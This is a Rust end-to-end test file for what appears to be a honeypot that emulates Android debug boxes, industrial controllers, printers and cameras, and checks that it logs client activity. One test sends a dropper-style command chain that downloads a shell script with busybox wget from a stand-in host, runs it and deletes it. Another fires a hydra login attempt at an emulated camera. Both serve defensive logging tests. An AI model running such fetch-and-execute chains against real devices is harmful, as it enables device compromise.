//! Devices with their own clients: what the client sees and what is stored agree.

use crate::fleet::{Fleet, client, have, printed};

/// The client's own server, on a port that nobody else's has.
const SERVER: &str = "15337";

#[test]
fn a_box_gives_its_shell_and_files_to_its_debugger_and_keeps_what_is_pushed() {
    if !have("adb", "adb") || !have("nmap", "nmap") {
        return;
    }
    let fleet = Fleet::deploy_config(
        102,
        "[general]\nnet = 127.102.0.0/16\nseed = e2e\n\n[box]\nip = 127.102.1.0\ndistro = busybox-arm\n\
         services = adb\n",
    );
    let target = format!("{}:15555", fleet.ip(0));
    let device = ["-s", target.as_str()];
    let adb = |words: &[&str]| {
        let device = if words[0] == "connect" { &[][..] } else { &device[..] };
        let all = [&["-P", SERVER][..], device, words].concat();
        printed(&client("adb", &all))
    };
    assert!(adb(&["connect", &target]).contains("connected to"));
    assert!(adb(&["shell", "id"]).contains("uid=0(root)"));
    let chain = "cd /data/local/tmp; busybox wget http://192.0.2.9/w.sh; sh w.sh; rm -f w.sh";
    adb(&["shell", chain]);
    fleet.wait_for_text("command", "command", chain);
    fleet.wait_for_text("download_attempt", "url", "http://192.0.2.9/w.sh");

    let (file, back) = (fleet.state().join("x.sh"), fleet.state().join("y.sh"));
    std::fs::write(&file, "#!/system/bin/sh\necho pushed $1\n").unwrap();
    adb(&["push", file.to_str().unwrap(), "/data/local/tmp/x.sh"]);
    assert!(adb(&["shell", "sh /data/local/tmp/x.sh 7"]).contains("pushed 7"));
    adb(&["pull", "/data/local/tmp/x.sh", back.to_str().unwrap()]);
    assert_eq!(std::fs::read(&file).unwrap(), std::fs::read(&back).unwrap());
    let kept = fleet.wait_for_text("file_captured", "path", "/data/local/tmp/x.sh");
    let hash = kept["fields"]["sha256"].as_str().unwrap();
    assert_eq!(fleet.artefact(hash), std::fs::read(&file).unwrap());

    let scan = ["-Pn", "-sT", "-p", "15555", &fleet.ip(0)];
    let seen = printed(&client("nmap", &scan));
    assert!(seen.contains("15555/tcp open"), "{seen}");
    client("adb", &["-P", SERVER, "kill-server"]);
}

#[test]
fn controllers_printers_and_cameras_answer_their_own_clients_and_keep_what_they_are_told() {
    let tools = [("mbpoll", "mbpoll"), ("ipptool", "cups-ipp-utils"), ("hydra", "hydra"), ("nmap", "nmap")];
    if !tools.iter().all(|(tool, package)| have(tool, package)) {
        return;
    }
    let fleet = Fleet::deploy_config(
        103,
        "[general]\nnet = 127.103.0.0/16\nseed = e2e\n\n[a-plc]\nip = 127.103.1.0\ndistro = modicon\nservices = ics\n\n\
         [b-printer]\nip = 127.103.1.1\ndistro = hp-printer\nservices = printer\n\n\
         [c-camera]\nip = 127.103.1.2\ndistro = ip-camera\nservices = rtsp\n\n\
         [d-building]\nip = 127.103.1.3\ndistro = building-controller\nservices = ics\n",
    );
    let poll =
        |words: &[&str]| printed(&client("mbpoll", &[&["-m", "tcp", "-p", "10502"][..], words].concat()));
    assert!(poll(&["-t", "4", "-r", "41", &fleet.ip(0), "7"]).contains("Written 1 references"));
    assert!(poll(&["-t", "4", "-r", "41", "-1", &fleet.ip(0)]).contains("[41]: \t7"));
    fleet.wait_for_text("command", "command", "modbus unit 1 write_single_register 40 7");

    // What a device does not speak is closed.
    let scan = |ip: &str| printed(&client("nmap", &["-Pn", "-n", "-p", "10102,10502,11111,30000,54818", ip]));
    assert!(scan(&fleet.ip(0)).contains("10502/tcp open") && !scan(&fleet.ip(0)).contains("10102/tcp open"));
    assert!(!scan(&fleet.ip(3)).contains("/tcp open"));

    let page = fleet.state().join("page.txt");
    std::fs::write(&page, "a page\n").unwrap();
    let printer = format!("ipp://{}:10631/ipp/print", fleet.ip(1));
    let told = printed(&client("ipptool", &["-tf", page.to_str().unwrap(), &printer, "print-job.test"]));
    assert!(told.contains("[PASS]"), "{told}");
    let kept = fleet.wait_for_text("file_captured", "format", "text");
    assert_eq!(fleet.artefact(kept["fields"]["sha256"].as_str().unwrap()), b"a page\n");

    client("hydra", &["-I", "-l", "admin", "-p", "wrong", "-s", "10554", &fleet.ip(2), "rtsp"]);
    fleet.wait_for_text("auth_attempt", "principal", "admin");
}

#[test]
fn nmap_knows_cameras_and_routers_by_their_makers() {
    if !have("nmap", "nmap") {
        return;
    }
    let fleet = Fleet::deploy_config(
        117,
        "[general]\nnet = 127.117.0.0/16\nseed = e2e\n\n\
         [a-hikvision]\nip = 127.117.1.0\nmac = 44:19:b6:01:02:03\ndistro = ip-camera\nservices = http, rtsp\n\n\
         [b-dahua]\nip = 127.117.1.1\nmac = 3c:ef:8c:01:02:03\ndistro = ip-camera\nservices = http, rtsp\n\n\
         [c-geovision]\nip = 127.117.1.2\nmac = 00:13:e2:01:02:03\ndistro = ip-camera\nservices = http, rtsp\n\n\
         [d-router]\nip = 127.117.1.3\ndistro = busybox-mips\nservices = http\n",
    );
    let makers = ["Hikvision", "Dahua webcam httpd", "GeoVision GeoHttpServer", "TP-LINK WR841N WAP"];
    for (number, known) in (0..).zip(makers) {
        let ip = fleet.ip(number);
        let seen = printed(&client("nmap", &["-Pn", "-n", "-sV", "-p", "10080", &ip]));
        let line = seen.lines().find(|line| line.starts_with("10080/tcp")).unwrap_or(&seen);
        assert!(line.contains(known), "{known}: {seen}");
    }
}
